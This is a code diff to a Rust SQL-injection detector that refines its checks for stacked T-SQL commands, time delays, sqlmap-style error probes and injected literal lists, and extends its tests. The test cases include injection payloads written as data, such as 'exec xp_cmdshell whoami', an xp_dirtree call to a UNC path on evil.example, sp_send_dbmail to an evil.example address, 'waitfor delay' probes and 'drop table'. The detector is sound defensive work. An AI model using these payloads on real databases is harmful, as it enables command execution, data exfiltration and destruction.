@@ -490,25 +490,36 @@ pub fn statement_fragment(norm: &[u8]) -> bool {
 /// "EXEC sp_who2 'active' returns nothing, why?" go on past their arguments.
 fn tsql_command(s: &[u8]) -> bool {
     let word = |s: &[u8], w: &[u8]| s.starts_with(w) && !s.get(w.len()).is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_');
+    // T-SQL runs a second statement after a number with no `;` (`1 exec xp_cmdshell 'dir'`).
+    let digits = s.iter().take(20).take_while(|b| b.is_ascii_digit()).count();
+    let after = s[digits..].trim_ascii_start();
+    let s = if digits > 0 && after.len() < s.len() - digits { after } else { s };
     let rest = if let Some(r) = [&b"execute"[..], b"exec"].iter().find(|w| word(s, w)).map(|w| &s[w.len()..]) {
         let r = r.trim_ascii_start();
         let name_len = r.iter().take(128).take_while(|&&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'[' | b']' | b'"')).count();
         let name: Vec<u8> = r[..name_len].iter().copied().filter(|b| !matches!(b, b'[' | b']' | b'"')).collect();
         let last = name.rsplit(|&b| b == b'.').next().unwrap_or(&[]);
-        if !(last.starts_with(b"xp_") || last.starts_with(b"sp_") || (name.starts_with(b"master.") && !last.is_empty())) {
+        let dots = name.iter().filter(|&&b| b == b'.').count();
+        if !(last.starts_with(b"xp_") || last.starts_with(b"sp_") || (name.starts_with(b"master.") && dots >= 2 && !last.is_empty())) {
             return false;
         }
-        &r[name_len..]
+        // One bare or bracketed word is an argument too (`exec xp_cmdshell whoami`); more are a
+        // sentence.
+        let rest = &r[name_len..];
+        let bare = rest.trim_ascii().iter().all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'[' | b']'));
+        if bare {
+            return true;
+        }
+        rest
     } else {
-        let digits = s.iter().take(20).take_while(|b| b.is_ascii_digit()).count();
-        let w = s[digits..].trim_ascii_start();
-        if !(digits == 0 || w.len() < s.len() - digits) || !word(w, b"waitfor") {
+        if !word(s, b"waitfor") {
             return false;
         }
-        let r = w[7..].trim_ascii_start();
+        let r = s[7..].trim_ascii_start();
         let Some(r) = [&b"delay"[..], b"time"].iter().find(|k| word(r, k)).map(|k| r[k.len()..].trim_ascii_start()) else { return false };
-        let n = r.strip_prefix(b"'").map_or(0, |t| t.iter().take(16).take_while(|b| b.is_ascii_digit() || matches!(b, b':' | b'.')).count());
-        if n == 0 || r.get(n + 1) != Some(&b'\'') {
+        let q = r.first().copied().filter(|&q| q == b'\'' || q == b'"');
+        let n = q.map_or(0, |_| r[1..].iter().take(16).take_while(|b| b.is_ascii_digit() || matches!(b, b':' | b'.')).count());
+        if n == 0 || r.get(n + 1).copied() != q {
             return false;
         }
         &r[n + 2..]
@@ -529,11 +540,12 @@ fn arguments_then_end(mut s: &[u8]) -> bool {
             }
             Some(b'-') if s.starts_with(b"--") => return true,
             Some(b',' | b'=') => s = &s[1..],
-            Some(b'\'') | Some(b'n') if s.starts_with(b"'") || s.starts_with(b"n'") => {
+            Some(b'\'' | b'"' | b'n') if s.starts_with(b"'") || s.starts_with(b"\"") || s.starts_with(b"n'") => {
                 let mut i = if s[0] == b'n' { 2 } else { 1 };
+                let q = s[i - 1];
                 loop {
-                    match s[i..].iter().position(|&b| b == b'\'') {
-                        Some(k) if s.get(i + k + 1) == Some(&b'\'') => i += k + 2,
+                    match s[i..].iter().position(|&b| b == q) {
+                        Some(k) if s.get(i + k + 1) == Some(&q) => i += k + 2,
                         Some(k) => break s = &s[i + k + 1..],
                         None => return false,
                     }
@@ -683,19 +695,27 @@ pub fn error_probe(norm: &[u8]) -> bool {
     let run = s.iter().rev().take(32).take_while(|&&b| matches!(b, b'\'' | b'"' | b'(' | b')' | b',' | b'.' | b'\\')).count();
     let (head, tail) = s.split_at(s.len() - run);
     let count = |c: u8| tail.iter().filter(|&&b| b == c).count();
+    // sqlmap's ten characters follow any value, a search's blanks too.
+    let sqlmap = run >= 6 && count(b'\'') == 1 && count(b'"') == 1;
     run >= 3
         && head.len() <= 64
-        && !head.iter().any(|&b| matches!(b, b' ' | b'\t' | b'\'' | b'"' | b'(' | b')'))
+        && !head.iter().any(|&b| matches!(b, b'\'' | b'"' | b'(' | b')') || (!sqlmap && matches!(b, b' ' | b'\t')))
         && count(b'\'') > 0
         && count(b'"') > 0
-        && (count(b'(') > count(b')') || (run >= 6 && count(b'\'') == 1 && count(b'"') == 1))
+        && (count(b'(') > count(b')') || sqlmap)
 }
 
 /// The whole value ends the app's string and goes on with a list of literals (`', 2, 1`,
 /// `'', '', 13`): an injection into an `insert … values` list or a select list that adds
 /// columns. Only with SQL's own quote: a CSV row starts `"",`.
 pub fn literal_list(norm: &[u8]) -> bool {
-    let mut items = norm.trim_ascii().split(|&b| b == b',').map(<[u8]>::trim_ascii);
+    // What closes the app's statement after the list: `)`, `;`, a comment (`', 2, 1);--`).
+    let s = norm.trim_ascii();
+    let s = classes::find(s, b"--").or_else(|| s.iter().position(|&b| b == b'#')).map_or(s, |k| &s[..k]);
+    let s = s.trim_ascii_end();
+    let s = s.strip_suffix(b";").unwrap_or(s).trim_ascii_end();
+    let s = s.strip_suffix(b")").unwrap_or(s);
+    let mut items = s.split(|&b| b == b',').map(<[u8]>::trim_ascii);
     let literal = |t: &[u8]| {
         (!t.is_empty() && t.iter().all(u8::is_ascii_digit))
             || t == b"null"
@@ -848,12 +868,12 @@ mod tests {
 
     #[test]
     fn literal_lists_after_a_closed_string() {
-        reads(literal_list, &["', 2, 1", "'', '', '', '', '', '', '', '', 13", "',null,null", "', 'a', 3"], &["', 2", "\"\", 1, 2", "'', 'a' and 'b', 3", "', 2, 1 apples", "1, 2, 3", "'s, 2, 1", "',,"]);
+        reads(literal_list, &["', 2, 1", "'', '', '', '', '', '', '', '', 13", "',null,null", "', 'a', 3", "', 2, 1);--", "', 2, 1)#"], &["', 2", "\"\", 1, 2", "'', 'a' and 'b', 3", "', 2, 1 apples", "1, 2, 3", "'s, 2, 1", "',,"]);
     }
 
     #[test]
     fn error_probes_append_both_quotes_and_an_opened_parenthesis() {
-        reads(error_probe, &["1\u{bf}'\"(", "'\"(", "42'.((,.,)\"'", "admin\"'(", "1.,)..(\".)'", "1))))\")',.(", "1),(\")',,.(", "1'\")),.(.,"], &["abusive.')\"", "x.replace(\"'\",'\"')", "it's \"(", "say '\"(", "''", "1'\"", "(\"')"]);
+        reads(error_probe, &["1\u{bf}'\"(", "'\"(", "42'.((,.,)\"'", "admin\"'(", "1.,)..(\".)'", "1))))\")',.(", "1),(\")',,.(", "1'\")),.(.,", "john smith),(\")',,.("], &["abusive.')\"", "x.replace(\"'\",'\"')", "it's \"(", "say '\"(", "''", "1'\"", "(\"')"]);
     }
 
     /// Spreadsheets compare numbers in `IF` and `IIF` too: those count only past the gate.
@@ -948,9 +968,16 @@ mod tests {
                 "exec msdb.dbo.sp_send_dbmail @recipients='a@evil.example', @body = n'x'",
                 "1 waitfor delay '0:0:5'",
                 "exec sp_who2",
+                "1 exec master..xp_dirtree '\\\\evil.example\\a'",
+                "exec xp_cmdshell whoami",
+                "exec master..xp_cmdshell [whoami]",
+                "exec xp_cmdshell 0x646972",
+                "exec xp_cmdshell \"dir\"",
+                "1 waitfor delay \"0:0:5\"",
             ],
             &[
                 "exec summary attached",
+                "exec master.pdf",
                 "waitfor it",
                 "exec(open(f).read(), vars)",
                 "exec (sales), london",
@@ -960,6 +987,7 @@ mod tests {
                 "exec sp_helptext 'dbo.myproc' - how do i see the full text?",
                 "waitfor delay '00:00:10' doesn't seem to wait in my job, any ideas?",
                 "exec sp_executesql @sql\n\nwhy does this fail with error 214? thanks",
+                "exec sp_who2 active returns nothing for me",
             ],
         );
         assert!(number_stacks_statement(b"1;select 1") && number_stacks_statement(b"5); drop table t"));
